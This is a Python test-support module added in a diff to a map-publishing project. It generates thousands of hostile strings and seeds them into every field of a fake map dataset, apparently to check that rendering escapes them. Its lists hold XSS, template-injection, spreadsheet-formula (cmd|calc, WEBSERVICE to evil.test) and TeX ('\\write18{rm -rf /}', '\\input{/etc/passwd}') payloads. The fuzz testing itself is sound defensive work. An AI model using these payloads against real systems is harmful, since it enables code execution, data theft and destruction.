@@ -1,0 +1,348 @@
+"""Texts that mean something to some program, and a map that has them in every place at once.
+
+``strings()`` makes thousands from small grammars, the same every time. ``Deal`` hands them out to
+the places of a map, the fields of the shapes of ``intake/rows.py``, and remembers which it had.
+"""
+
+import csv
+import itertools
+import json
+import random
+import re
+import string
+import unicodedata
+from functools import cache
+
+from frontline.intake.rows import MAX_CHARACTERS, unprintable
+from frontline.language.messages import GAP, messages
+
+HIT = "__hit()"
+"""What a text does where it is run: a test defines it, and waits for it in vain."""
+
+# fmt: off
+CLOSERS = ["", '">', "'>", "</script>", "</style>", "</textarea>", "</title>", "-->", "]]>",
+           "</svg>", "`>", "</noscript>", "*/", "&quot;>", "</iframe>", "</p></main>"]
+ELEMENTS = [
+    f"<script>{HIT}</script>", f"<ScRiPt>{HIT}</sCrIpT >", f"<img src=x onerror={HIT}>",
+    f"<svg onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg/onload={HIT}//",
+    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", f"<iframe src=javascript:{HIT}>",
+    f"<body onload={HIT}>", f"<details open ontoggle={HIT}>x", f"<video><source onerror={HIT}>",
+    f"<math><mi xlink:href='javascript:{HIT}'>x", "<style>@import 'http://evil.test/x.css'</style>",
+    "<link rel=stylesheet href=http://evil.test/x.css>", "<base href=http://evil.test/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
+    f"<form action=javascript:{HIT}><button>x</button></form>", f"<object data=javascript:{HIT}>",
+    f"<embed src=data:text/html,{HIT}>", f"<a href=javascript:{HIT}>x</a>",
+    f"<input autofocus onfocus={HIT}>", f"<marquee onstart={HIT}>x</marquee>", "<!--<script>",
+    f"<x style=animation-name:x onanimationstart={HIT}>", "<img src=http://evil.test/pixel.gif>",
+    f"<template><img onerror={HIT}></template>", f"<svg><animate onbegin={HIT} attributeName=x>",
+    f"<svg><foreignObject><img src=x onerror={HIT}>", "<plaintext>", "<xmp>", "<noembed>",
+    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/>", "<![CDATA[<x>]]>", "<?php echo 7*7 ?>",
+    f"<img src='x' srcset='x' onerror = '{HIT}'/>", f"\\x3cscript\\x3e{HIT}",
+    f"&lt;script&gt;{HIT}",
+    f"\\u003cscript\\u003e{HIT}", f"&#60;script&#62;{HIT}", f"%3Cscript%3E{HIT}",
+    f"\u2028<script>{HIT}</script>\u2029",
+]
+HANDLERS = ["onmouseover", "onfocus", "onerror", "onload", "onpointerenter", "onanimationend",
+            "style", "href", "srcdoc", "xlink:href"]
+DELIMITERS = ["{{ }}", "${ }", "<%= %>", "#{ }", "{% %}", "[[ ]]", "{{{ }}}", "@( )", "$( )",
+              "*{ }", "{ }", "%{ }", "~{ }", "<# #>", "{# #}", "<? ?>", "[% %]", "@{ }",
+              "${{ }}", "{{= }}", "{{- -}}", "<%- %>", "` `"]
+EXPRESSIONS = ["7*7", "7*'7'", "config", "self.__init__.__globals__", "''.__class__.__mro__",
+               f"constructor.constructor('{HIT}')()", HIT, "this.text", "this.title", "request",
+               "T(java.lang.Runtime)", "raw", "range(9)", "import os", "__import__('os')",
+               "for x in (1,2)", "lipsum.__globals__", "kwargs"]
+SCRIPT = [f"';{HIT};//", f'";{HIT};//', f"\\';{HIT};//", f'\\";{HIT};//', f"`;{HIT};//",
+          f"${{{HIT}}}", f"*/{HIT}/*", f"\u2028{HIT}", f"\u2029{HIT}//", f"'+{HIT}+'",
+          f"'-{HIT}-'", f"\\u0027;{HIT};//", "\\", "\\\\", '\\"', "\\u0000", "\\uD800", "\\x00",
+          f"</script><script>{HIT}//", f"<!--<script>{HIT}</script>-->", f"]]></script>{HIT}",
+          f"}});{HIT};({{", f"){HIT}(", f"//\u2028{HIT}", "/*", "*/", "use strict"]
+PATTERNS = ["$&", "$1", "$2$1", "$$", "$$$$", "$`", "$'", "$<name>", "$0", "\\1", "\\g<0>",
+            "\\g<1>", "\\0", "&", "\\&", "%1", "\\U", "\\E", ".*", "(?<x>y)", "[", "(", "^$"]
+STYLE = [f"expression({HIT})", "url(http://evil.test/a.png)", f"url(javascript:{HIT})",
+         "}*{background:url(http://evil.test/b.png)}", "@import url(http://evil.test/c.css);",
+         "behavior:url(http://evil.test/d.htc)", "-moz-binding:url(http://evil.test/e.xml#x)",
+         "\\65xpression(1)", "red;background:url(http://evil.test/f.png)", "#000;}</style>",
+         "var(--x,url(http://evil.test/g.png))", "</style><img src=http://evil.test/h.png>",
+         "position:fixed;inset:0", "1px solid red", "fl-hidden", "--x:1", "/*", "!important"]
+MATH = ["$x^2$", "\\$x\\$", "$\\frac{", "$\\frac{1}{2}$", "$$\\sum_i x_i$$", "\\(x\\)", "\\[x\\]",
+        "$\\alpha$", "\\begin{equation}x\\end{equation}", "a_b^c", "$", "$$", "$5 and $6",
+        "$\\mathdefault{x}$", "$\\unknowncommand$", "\\mathrm{x}", "H_2O", "e^{i\\pi}", "$ x $"]
+TEX = ["\\input{/etc/passwd}", "\\write18{rm -rf /}", "% comment", "{", "}", "}{", "\\\\", "~",
+       "#1", "&amp;", "^^41", "\\href{javascript:x}{y}", "\\url{x}", "\\end{document}", "@misc{x,",
+       "},\n  note = {x", "\\def\\x{y}", "\"quoted\"", "\\catcode`\\%=12", "\\textbf{x}"]
+MARKDOWN = [f"[a](javascript:{HIT})", "[a](http://evil.test)", "![a](http://evil.test/i.png)",
+            "<http://evil.test>", "http://evil.test/", "www.evil.test", "a@evil.test", "**b**",
+            "__b__", "*i*", "_i_", "~~s~~", "`c`", "```\ncode\n```", "    code", "# head",
+            "head\n====", "head\n----", "> quote", "- item", "+ item", "* item", "1. item",
+            "1) item", "- [ ] task", "| a | b |\n|---|---|\n| c | d |", "|", "\\|", "a\\", "---",
+            "***", "[^1]", "[^1]: note", "[a]: http://evil.test", "[a][b]", "![a][b]", ":smile:",
+            "@someone", "#123", "==mark==", "H~2~O", "x^2^", "::: {.callout}", ":::", "{.class}",
+            "{{< include /etc/passwd >}}", "{{< video http://evil.test >}}", "@cite2020",
+            "[@cite2020]", "term\n: definition", "<br>", "&copy;", "&#x41;", "``` {=html}",
+            "`<b>`{=html}", "--", "...", "'single'", '"double"', "a  \nb", "https://evil.test/?a=b",
+            "<!-- x -->", "[x]{.y}", "\\newpage", "$x$", "{=latex}", "%title", "\t\tx"]
+STARTS = ["=", "+", "-", "@", "\t=", "\n=", " =", "  @", "＝", "＋", "－", "＠", "'=", '"=', ";=",
+          ",=", "|", "=-", "@=", "\u00a0="]
+FORMULAS = ["1+1", "cmd|'/c calc'!A0", "SUM(A1)", 'HYPERLINK("http://evil.test","x")',
+            'IMPORTXML("http://evil.test","//a")', 'WEBSERVICE("http://evil.test")',
+            "2+5+cmd|' /C calc'!A0", 'IMAGE("http://evil.test/i.png")', "MSEXCEL|'\\..\\x'!''"]
+FORMATS = ["%s", "%n", "%d%d%d", "%(x)s", "%1$s", "{0}", "{}", "{__class__}", "{0.__class__}",
+           "{x!r}", "{:>99999999}", "%999999d", "{0[a]}", "%%", "{{0}}", "%", "%2", "%zz",
+           "{self}", "{title}", "[bold red]x[/]", "[link=http://evil.test]x[/link]", "[/]"]
+NAMES = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty",
+         "__defineGetter__", "length", "0", "-0", "1", "00", "1e3", "NaN", "Infinity", "undefined",
+         "null", "None", "true", "false", "[object Object]", "frontline-scene", "frontline-still",
+         "frontline-player", "map_0", "fl-time", "fl-hatch-0", "document", "window", "location",
+         "days", "other", "one", "control", "contested", "unknown", "held", "..", ".", "../../x",
+         "/etc/passwd", "C:\\x", "con", "nul", "a/b", "CON.txt", "~", "id", "map.html"]
+LINKS = [f"{scheme}{tail}" for scheme, tail in itertools.product(
+    ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "javascript&colon;",
+     "&#106;avascript:", " javascript:", "vbscript:", "data:text/html,", "view-source:javascript:",
+     "//", "http:\\\\", "https://user:pw@", "blob:", "file:///", "\\\\evil.test\\"],
+    [HIT, f"//%0a{HIT}", "evil.test/x"])]
+LETTERS = [
+    "e" + "\u0301" * 200, "Z" + "\u0336\u0489" * 40, "مرحبا <b>", "שלום \"x\"", "漢字 $x$",
+    "😀👩‍👩‍👧‍👦🏴",
+    "\ufeffx", "\u200bx\u200c", "x\u200ey\u200f", "\u061cx", "\u2028", "x\u2029y", "a\u00a0b",
+    "\u3164", "ﷺﷺﷺ", "𝒳𝔂", "\U0001d7ce", "İi̇ıI", "ß ẞ", "ﬁ", "Å Å", "\u1160x", "\u17b4x",
+    "а\u0430рр\u04cfе", "\u202f\u2009", "\u180e", "\uffa0", "\ue000", "\U000f0000",
+]
+# fmt: on
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+"""How a cell begins that some spreadsheet calculates."""
+
+
+def attributes():
+    for quote, handler, gap in itertools.product(('"', "'", "`", ""), HANDLERS, (" ", "\t", "/")):
+        yield f"x{quote}{gap}{handler}={quote}{HIT}"
+
+
+@cache
+def strings(count=4000):
+    """Thousands of texts: what the grammars give, then mixtures of two or three of them."""
+    found = [
+        *SCRIPT, *PATTERNS, *STYLE, *MATH, *TEX, *MARKDOWN, *FORMATS, *NAMES, *LINKS, *LETTERS,
+        *(f"{{{{{gap}}}}}" for gap in sorted(every_gap())),
+        *(mark.replace(" ", expression) for mark in DELIMITERS for expression in EXPRESSIONS),
+        *(start + formula for start in STARTS for formula in FORMULAS),
+        *(closer + element for closer in CLOSERS for element in ELEMENTS),
+        *attributes(),
+    ]  # fmt: skip
+    luck = random.Random(8)
+    while len(found) < count:
+        found.append(luck.choice(("", " ", "\n", "; ")).join(luck.sample(found, 2)))
+    luck.shuffle(found)
+    assert not any(map(unprintable, found))
+    return tuple(dict.fromkeys(filter(str.strip, found)))[:count]
+
+
+def every_gap():
+    return {gap for message in messages("en").values() for gap in GAP.findall(message)}
+
+
+def plain(text):
+    """A harmless text of the same length and the same words."""
+    letters = itertools.cycle(string.ascii_lowercase)
+    return "".join(c if c.isspace() else next(letters) for c in text)
+
+
+def joined(texts):
+    """As many of some texts as the text of a file may hold."""
+    lengths = itertools.accumulate(len(text) + 3 for text in texts)
+    count = sum(length < MAX_CHARACTERS - 50 for length in lengths)
+    return " ¦ ".join(texts[:count]).strip()
+
+
+def all_seen(text):
+    """Tell whether no sign of a text is hidden, as none of an id may be."""
+    return all(unicodedata.category(sign) != "Cf" for sign in text)
+
+
+class Deal:
+    """Hand out texts to the places of a map; every place has all of them, in so many parts.
+
+    ``had`` maps a place to the texts it was given, as a reader of the file has them.
+    """
+
+    def __init__(self, texts, harmless=False):
+        self.texts = [plain(text) for text in texts] if harmless else list(texts)
+        self.had = {}
+
+    def __call__(self, where, count, fits=lambda text: True):
+        texts = [text for text in self.texts if fits(text)]
+        given = [joined(texts[n::count]) or f"text {n}" for n in range(count)]
+        self.had.setdefault(where, []).extend(given)
+        return given
+
+    def ids(self, where, count):
+        texts = enumerate(self(where, count, fits=all_seen), 1)
+        given = [f"{text.replace(';', ',')} {where} {n}" for n, text in texts]
+        self.had[where] = given
+        return given
+
+
+def markdown(text):
+    """A text as Markdown has it."""
+    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", " ".join(text.split()))
+
+
+def toml(value):
+    if isinstance(value, dict):
+        return "{" + ", ".join(f"{toml(key)} = {toml(one)}" for key, one in value.items()) + "}"
+    if isinstance(value, list | tuple):
+        return "[" + ", ".join(map(toml, value)) + "]"
+    return json.dumps(value, ensure_ascii=False)
+
+
+def features(path, rows):
+    told = [
+        {"type": "Feature", "properties": properties, "geometry": {"type": kind, "coordinates": at}}
+        for properties, kind, at in rows
+    ]
+    path.write_text(json.dumps({"type": "FeatureCollection", "features": told}), encoding="utf-8")
+
+
+def table(path, rows):
+    with path.open("w", newline="", encoding="utf-8") as file:
+        made = csv.DictWriter(file, list(rows[0]))
+        made.writeheader()
+        made.writerows(rows)
+
+
+def box(west, south, east, north):
+    return [[[west, south], [east, south], [east, north], [west, north], [west, south]]]
+
+
+ODD_NUMBER = re.compile(r"[-+<>~≈=\s]*\d[\d.,\s]*")
+UNLIKE_URL = re.compile(r"[\s\\]|[^\x21-\U0010ffff]")
+
+
+def in_url(text):
+    """Tell whether a text may stand in an address."""
+    return text.isprintable() and not UNLIKE_URL.search(text)
+
+
+def hostile_map(folder, deal, places=12, events=12, sources=8):
+    """Write a map of ten days that has the dealt texts in all of its places."""
+    for part in (folder, folder / "base", folder / "languages"):
+        part.mkdir()
+
+    def both(where, name, count, **options):
+        """Texts of a field in both languages of the map."""
+        own, other = (deal(f"{where}.{key}", count, **options) for key in (name, f"{name}:uk"))
+        return [{name: a, f"{name}:uk": b} for a, b in zip(own, other, strict=True)]
+
+    place_ids = deal.ids("PlaceFeature.id", places)
+    event_ids = deal.ids("EventRow.id", events)
+    source_ids = deal.ids("SourceRow.id", sources)
+    side_ids = deal.ids("SideTable.id", 2)
+    [land] = deal.ids("BaseFeatureShape.id", 1)
+    place_at = itertools.cycle(place_ids)
+    source_at = itertools.cycle(source_ids)
+    zipped = lambda *columns: zip(*columns, strict=True)  # noqa: E731
+
+    kinds = deal("PlaceFeature.kind", places)
+    features(folder / "places.geojson", [
+        (
+            {"id": id, **name, "kind": kind, "admin": admin, "source": next(source_at)},
+            "Point", [10 + 0.03 * (n % 12), 49.9 + 0.03 * (n // 12)],
+        )
+        for n, (id, name, kind, admin) in enumerate(
+            zipped(place_ids, both("PlaceFeature", "name", places), kinds,
+                   deal("PlaceFeature.admin", places)))
+    ])  # fmt: skip
+    areas = deal.ids("AreaFeature.id", 2)
+    features(folder / "areas.geojson", [
+        ({"id": id, "side": side, "status": "held", "from": "2024-03-01", "source": source_ids[0]},
+         "Polygon", box(9.5 + n / 2, 49.5, 9.6 + n / 2, 49.6))
+        for n, (id, side) in enumerate(zipped(areas, side_ids))
+    ])  # fmt: skip
+    names = both("BaseFeatureShape", "name", 3)
+    features(folder / "base" / "base.geojson", [
+        ({"kind": "country", "id": land, **names[0]}, "Polygon", box(9, 49, 11, 51)),
+        ({"kind": "river", **names[1]}, "LineString", [[9.5, 49.9], [10.5, 50.1]]),
+        ({"kind": "lake", **names[2]}, "Polygon", box(10.2, 50.2, 10.3, 50.25)),
+    ])  # fmt: skip
+    spoken = deal("EventRow.claimant", events)
+    event_kinds = deal("EventRow.kind", events)
+    days = [f"2024-03-{1 + n % 10:02}" for n in range(max(events, places))]
+    table(folder / "events.csv", [
+        {"id": id, "date": day, "place": next(place_at), "kind": kind, **title, **text,
+         "claimant": who, "claimant:uk": whom, "source": next(source_at)}
+        for id, day, kind, title, text, who, whom in zip(
+            event_ids, days, event_kinds, both("EventRow", "title", events),
+            both("EventRow", "text", events), spoken, deal("EventRow.claimant:uk", events),
+            strict=False)
+    ])  # fmt: skip
+    claim_ids = deal.ids("ClaimRow.id", 2 * places)
+    claimants = deal("ClaimRow.claimant", places)
+    notes = both("ClaimRow", "note", places)
+    abouts = deal("ClaimRow.about", places)
+    control = [
+        {"id": id, "place": place, "about": "control", "value": side, "value:uk": "", "known": day,
+         "claimant": who, "claimant:uk": whom, **note, "source": next(source_at)}
+        for id, place, side, who, whom, note, day in zip(
+            claim_ids, place_ids, itertools.cycle(side_ids), claimants,
+            deal("ClaimRow.claimant:uk", places), notes, days, strict=False)
+    ]  # fmt: skip
+    values = both("ClaimRow", "value", places, fits=lambda text: not ODD_NUMBER.fullmatch(text))
+    told = [
+        {"id": id, "place": place, "about": about, **value, "known": day, "claimant": who,
+         "claimant:uk": "", "note": "", "note:uk": "", "source": next(source_at)}
+        for id, place, about, value, who, day in zip(
+            claim_ids[places:], place_ids, abouts, values, claimants, days, strict=False)
+    ]  # fmt: skip
+    table(folder / "claims.csv", [*control, *told])
+    web = [f"https://example.org/{text}" for text in deal("SourceRow.url", sources, fits=in_url)]
+    kept = deal("SourceRow.archive_url", sources, fits=in_url)
+    table(folder / "sources.csv", [
+        {"id": id, "title": title, "publisher": publisher, "licence": licence,
+         "url": url.replace(" ", "-"),
+         "archive_url": f"https://example.net/{archive}".replace(" ", "-")}
+        for id, title, publisher, licence, url, archive in zipped(
+            source_ids, deal("SourceRow.title", sources), deal("SourceRow.publisher", sources),
+            deal("SourceRow.licence", sources), web, kept)
+    ])  # fmt: skip
+    for where in ("SourceRow.url", "SourceRow.archive_url"):
+        deal.had[where] = [text.replace(" ", "-") for text in deal.had[where]]
+    chapters = []
+    for where, n in zipped(both("ChapterTable", "title", 6), range(6)):
+        chapters.append({**where, "date": f"2024-03-0{n + 1}", "places": [place_ids[n]],
+                         "source": source_ids[0]})  # fmt: skip
+    for key in ("text", "text:uk"):
+        for chapter, text in zipped(chapters, deal(f"ChapterTable.{key}", 6)):
+            chapter[key] = markdown(text)
+        where = f"ChapterTable.{key}"
+        deal.had[where] = [" ".join(text.split()) for text in deal.had[where]]
+    header = {
+        **both("HeaderFile", "title", 1)[0],
+        **both("HeaderFile", "summary", 1)[0],
+        "author": deal("HeaderFile.author", 1)[0],
+        "credits": deal("HeaderFile.credits", 4),
+        "period": "2024-03-01/2024-03-10",
+        "timezone": "UTC",
+        "extent": [9.4, 49.4, 10.6, 50.6],
+        "languages": ["en", "uk"],
+        "start": {"side": side_ids[0], "within": land, "source": source_ids[0]},
+        "ground": {"method": "cells", "reach_km": 4},
+        "sides": [
+            {"id": id, **name, **adjective}
+            for id, name, adjective in zipped(
+                side_ids, both("SideTable", "name", 2), both("SideTable", "adjective", 2))
+        ],
+        "notes": [
+            {**text, "place": place_ids[0], "event": event_ids[0], "source": source_ids[0]}
+            for text in both("NoteTable", "text", 4)
+        ],
+        "chapters": chapters,
+    }  # fmt: skip
+    lines = [f"{toml(key)} = {toml(value)}\n" for key, value in header.items()]
+    (folder / "map.toml").write_text("".join(lines), encoding="utf-8")
+    said = deal("languages", 3, fits=lambda text: not GAP.search(text))
+    keys = (f"kind_{event_kinds[0].lower()}", f"place_{kinds[0]}", f"about_{abouts[0]}")
+    own = dict(zipped(keys, said))
+    text = json.dumps(own, ensure_ascii=False, indent=1)
+    (folder / "languages" / "uk.json").write_text(text, encoding="utf-8")
+    return folder
